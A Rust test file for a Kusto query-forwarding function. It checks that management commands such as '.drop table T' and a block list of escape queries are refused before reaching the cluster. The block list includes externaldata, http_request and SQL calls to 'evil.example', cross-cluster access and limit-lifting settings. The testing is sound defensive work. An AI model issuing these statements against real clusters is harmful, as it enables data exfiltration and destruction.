//! What is refused in a statement before anything is sent, and what only looks like it.

use serde_json::json;
use tests::{
    cloud::ONE_ROW,
    cluster::Cluster,
    lambda::{Function, Outcome},
};

/// The characters that Microsoft's own parser lets stand before the dot of a management command.
const BEFORE_THE_DOT: [char; 24] = [
    '\u{9}', '\u{a}', '\u{c}', '\u{d}', '\u{20}', '\u{a0}', '\u{1680}', '\u{180e}', '\u{2000}', '\u{2001}', '\u{2002}',
    '\u{2003}', '\u{2004}', '\u{2005}', '\u{2006}', '\u{2007}', '\u{2008}', '\u{2009}', '\u{200a}', '\u{200b}',
    '\u{202f}', '\u{205f}', '\u{3000}', '\u{feff}',
];
/// Those that end a comment.
const LINE_BREAKS: [char; 4] = ['\u{a}', '\u{d}', '\u{2028}', '\u{2029}'];

/// Ways out of the cluster, out of the database, and out of what is safe.
const FORBIDDEN: [&str; 30] = [
    "externaldata(a:string)['https://evil.example/a.csv']",
    "EXTERNALDATA (a:string)[h@'https://evil.example']",
    "external_table('Blobs')",
    "inline_external_table (a:string) kind=storage dataformat=csv ('x')",
    "T | join (externaldata(a:string)['https://evil.example']) on a",
    "let x = externaldata(a:string)['https://evil.example']; x",
    "http_request('https://evil.example')",
    "http_request_post('https://evil.example', 'body')",
    "evaluate sql_request('Server=evil', 'select 1')",
    "evaluate mysql_request('Server=evil', 'select 1')",
    "evaluate postgresql_request('Host=evil', 'select 1')",
    "evaluate cosmosdb_sql_request('x', 'select 1')",
    "evaluate ai_embeddings('x', 'https://evil.example')",
    "T | evaluate python(typeof(*), 'result = df')",
    "T | evaluate r(typeof(*), 'result <- df')",
    "cluster('evil').database('d').T",
    "cluster(\"evil\") . database ('d').T",
    "cluster // (\n ('evil').database('d').T",
    "union cluster('*').database('*').T",
    "alias database d = cluster('evil').database('x'); database('d').T",
    "adx('https://evil.example/d').T",
    "arg('').Resources",
    "workspace('x').T",
    "app('x').requests",
    "database('Other').T",
    "set notruncation; T",
    "set request_external_data_disabled = false; T",
    "//c\nset truncationmaxrecords=10000000; T",
    "set best_effort; T",
    "set query_take_max_records=999999999; T",
];

fn function(cluster: &Cluster) -> Function {
    Function::start("query", &[("KUSTO_CLUSTER", cluster.url()), ("KUSTO_DATABASE", "db")])
}

#[test]
fn a_management_command_is_refused_however_it_is_dressed() {
    let cluster = Cluster::answering_json(ONE_ROW.as_bytes());
    let function = function(&cluster);
    let prefixes = BEFORE_THE_DOT.map(String::from).into_iter();
    let comments = LINE_BREAKS.map(|end| format!("// \"note{end}")).into_iter();
    let every = BEFORE_THE_DOT.iter().collect::<String>();
    for prefix in prefixes.chain(comments).chain([every, "// a\n// b\n\t".to_owned(), String::new()]) {
        let error = function.invoke(&json!({"query": format!("{prefix}.drop table T")})).error();
        assert!(error.starts_with("BadRequest: `query` is a management command"), "{prefix:?}: {error}");
    }
    assert_eq!(cluster.connections(), 0);
}

#[test]
fn what_is_no_management_command_is_a_query() {
    let cluster = Cluster::answering_json(ONE_ROW.as_bytes());
    let function = function(&cluster);
    let queries = [
        "/* x */ .drop table T",
        "\u{b}.drop table T",
        "\u{85}.drop table T",
        "\u{2028}.drop table T",
        "\u{ff0e}drop table T",
        "print ~~~\n.drop\n~~~",
        "T // .drop",
        "print '\\n.drop table T'",
        "1 .drop",
    ];
    for query in queries {
        assert_eq!(function.invoke(&json!({"query": query})).reply()["rowCount"], 1, "{query:?}");
    }
    assert_eq!(cluster.connections(), queries.len());
}

#[test]
fn a_way_out_is_refused_before_anything_is_sent() {
    let cluster = Cluster::answering_json(ONE_ROW.as_bytes());
    let function = function(&cluster);
    for query in FORBIDDEN {
        let error = function.invoke(&json!({"query": query})).error();
        assert!(error.starts_with("Forbidden: "), "{query}: {error}");
    }
    assert_eq!(cluster.connections(), 0);
}

#[test]
fn the_same_words_in_strings_names_and_comments_are_not_refused() {
    let cluster = Cluster::answering_json(ONE_ROW.as_bytes());
    let function = function(&cluster);
    let mut asked = 0;
    for words in FORBIDDEN {
        let line = words.replace('\n', " ");
        let (escaped, doubled) = (line.replace('\\', "\\\\").replace('\'', "\\'"), line.replace('\'', "''"));
        for query in [
            format!("print '{escaped}'"),
            format!("print \"{}\"", line.replace('"', "\\\"")),
            format!("print h'{escaped}'"),
            format!("print @'{doubled}'"),
            format!("print h@'{doubled}'"),
            format!("print ```{words}```"),
            format!("print ~~~{words}~~~"),
            format!("T | where ['{escaped}'] == 1"),
            format!("T // {line}\n| count"),
            format!("// {line}\nT"),
            format!("// {line}\u{2028}T"),
            format!("T //{line}"),
        ] {
            match function.invoke(&json!({"query": query})) {
                Outcome::Reply(_) => asked += 1,
                Outcome::Error(error, message) => panic!("{query:?}: {error}: {message}"),
            }
        }
    }
    assert_eq!((asked, cluster.connections()), (12 * FORBIDDEN.len(), 12 * FORBIDDEN.len()));
}
